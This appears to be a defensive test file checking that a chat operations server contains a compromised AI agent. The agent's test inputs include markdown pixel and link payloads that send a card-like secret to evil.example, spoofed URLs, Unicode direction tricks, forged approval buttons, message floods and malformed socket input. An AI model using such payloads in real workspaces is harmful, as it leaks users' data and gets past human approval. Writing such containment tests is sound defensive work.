import { statSync } from 'node:fs'
import { connect } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  type HostileRoom,
  outcomeOf,
  readPayment,
  refund,
  startHostileRoom,
} from '../support/hostile-agent.ts'
import { liveIn } from '../support/live-text.ts'
import type { OpsRoom } from '../support/ops-room.ts'

let hostile: HostileRoom
let room: OpsRoom
beforeAll(async () => {
  hostile = await startHostileRoom()
  room = hostile.room
})
afterAll(() => hostile?.stop())

describe('What a captured agent sends', () => {
  it('posts text and nothing that looks at or acts on people', async () => {
    const { turn, ts, ...held } = await hostile.captured('founder', 'say something')
    const secret = 'd=4111'
    for (const text of [
      '<!channel> <!here|x> <@U0FOUNDER01> <#C1|x> <https://evil.example|admin.shopify.com> @channel @here @everyone\n',
      `![pixel](https://evil.example/p.png?${secret}) [open](https://evil.example/?${secret}) https://evil.example/?${secret}\n`,
      `[https://api.razorpay.com/](https://evil.example/?${secret}) [a](https\\://evil.example) [b](//evil.example/x)\n`,
      '[c][1]\n\n[1]: https://evil.example/ref\n[1]: //evil.example/ref www.evil.example/x evil.example/y\n',
      'https://api.razorpay.com@evil.example/ https://api.razorpay.com\\@evil.example/ mailto:x@evil.example\n',
      'he\u200bre \u202eevila\u202c \u{e0041} \u0007\n',
    ])
      await turn.say(text)
    // In two halves, and in two halves of a word that is too long to be held back.
    for (const half of ['https://ev', 'il.example/half ', '!', '[x](https', '://evil.example/i.png) '])
      await turn.say(half)
    for (const half of [`${'('.repeat(2500)}https:`, '//evil.example/long ', `${'('.repeat(2500)}!`, '[x] '])
      await turn.say(half)
    const blocks = [
      { type: 'actions', elements: [{ type: 'button', action_id: 'approval.approve', value: 'x' }] },
    ]
    await turn.say(JSON.stringify({ blocks }))
    for (const given of [blocks, { text: 'x', blocks }, null, 7, turn])
      expect(await outcomeOf(turn.say(given))).toBe('input.invalid')
    await turn.draft({ callId: 'd', title: '<!channel>', text: '![x](https://evil.example/i.png)\n*Done.*' })
    await hostile.endAll({ turn, ...held })

    const draft = await room.reply(/Draft: /)
    const said = (await room.world()).messages.filter((message) => message.threadTs === ts && message.isApp)
    expect(said.length).toBeGreaterThan(1)
    for (const message of said.filter(({ ts }) => ts !== draft.ts)) {
      const types = (message.blocks as { type: string }[]).map(({ type }) => type)
      expect(types.filter((type) => type !== 'markdown')).toEqual([])
      expect(liveIn(message.text, ['api.razorpay.com'])).toEqual([])
    }
    // A draft has blocks, and all of them are ours.
    const drawn = draft.blocks as { type: string; block_id: string; text?: { text: string } }[]
    expect(drawn.map(({ block_id }) => block_id)).toEqual(['kind', 'title', 'text', 'foot', 'draft'])
    expect(drawn.map(({ type }) => type)).toEqual(['header', 'section', 'section', 'context', 'actions'])
    // The quoting is ours.
    const texts = drawn.map(({ text }) => text?.text.replaceAll(/^> /gm, '') ?? '')
    for (const text of [draft.text, ...texts]) expect(liveIn(text, ['api.razorpay.com'])).toEqual([])
    expect(texts.join('\n')).toContain('`*Done.*`')
    expect(said.map(({ text }) => text).join('\n')).toContain('\\u{202e}')
  })

  it('cannot fill a file, a channel or the day: what is large or endless is refused, and the rest goes on', async () => {
    const { turn, ...held } = await hostile.captured('founder', 'flood')
    const megabyte = 'x'.repeat(1_000_000)
    const large = [
      turn.say(megabyte),
      turn.draft({ callId: 'd', title: 't', text: megabyte }),
      turn.read({ ...readPayment, input: { paymentId: megabyte } }),
      turn.propose({ ...refund(), input: { paymentId: megabyte } }),
      turn.read({ ...readPayment, tool: megabyte }),
      turn.read({ callId: 'c', tool: 'nope', input: { anything: megabyte } }),
      turn.read({ ...readPayment, callId: megabyte }),
      turn.withdraw({ callId: 'w', approval: megabyte }),
    ]
    for (const call of large) expect(await outcomeOf(call)).toBe('input.invalid')
    const calls = await Promise.all(
      Array.from({ length: 400 }, (_, index) =>
        outcomeOf(turn.read({ callId: `c${index}`, tool: 'nope', input: {} })),
      ),
    )
    expect(calls.filter((code) => code === 'tool.unknown').length).toBeLessThan(300)
    expect(calls.at(-1)).toBe('limit.calls')
    expect(await outcomeOf(turn.propose(refund()))).toBe('limit.calls')
    await hostile.endAll({ turn, ...held })

    const { turn: second, ...more } = await hostile.captured('founder', 'flood again')
    const sayings = await Promise.all(
      Array.from({ length: 5 }, () => outcomeOf(second.say('y '.repeat(15_000)))),
    )
    expect(sayings).toEqual(['answered', 'answered', 'answered', 'limit.calls', 'limit.calls'])
    await hostile.endAll({ turn: second, ...more })
  })

  it('cannot end a turn in its own words', async () => {
    const ends: unknown[] = [
      { end: 'done', tokens: -1 },
      { end: 'done', tokens: 0, text: 'Refunded.', blocks: [] },
      { end: 'approved', tokens: 0 },
      'done',
      null,
    ]
    for (const end of ends) {
      const held = await hostile.captured('founder', 'hello')
      held.end(end)
      const said = await room.until('the server says that it failed', (world) =>
        world.messages.find((message) => message.threadTs === held.ts && message.isApp),
      )
      expect(said.text).toContain('Something went wrong')
    }
  })

  it('cannot bring the server down from its socket', async () => {
    const nested = `["push",["pipeline",0,["x"],[${'['.repeat(200_000)}${']'.repeat(200_000)}]]]\n`
    const lines = [
      'no json\n',
      '[]\n',
      'null\n',
      '["resolve",5,1]\n',
      '["pull",99]\n',
      '["release",0,9]\n',
      nested,
    ]
    for (const line of lines) await throwAt(join(room.folder, 'run', 'agent', 'agent.sock'), line)
    expect((await fetch(`${room.url()}/healthz`)).status).toBe(200)
    // The last to connect was the last to be believed to be the agent: it comes back as one does after a restart.
    await hostile.reconnect()
    await hostile.endAll(await hostile.captured('founder', 'still there?'))
  })

  it('does not reach the operator’s socket where it is another user', () => {
    const mode = (path: string): number => statSync(join(room.folder, 'run', path)).mode & 0o777
    expect(mode('operator') & 0o077).toBe(0)
    expect(mode('operator/operator.sock') & 0o077).toBe(0)
    expect(mode('agent') & 0o007).toBe(0)
    expect(mode('agent/agent.sock') & 0o007).toBe(0)
    expect(mode('../tenants') & 0o077).toBe(0)
    expect(mode('../broker') & 0o077).toBe(0)
  })
})

/** Sends these bytes as an agent might, and resolves when they were taken in or the line was cut. */
function throwAt(path: string, bytes: string): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(path, () => socket.end(bytes))
    socket.resume()
    socket.once('error', () => resolve())
    socket.once('close', () => resolve())
  })
}
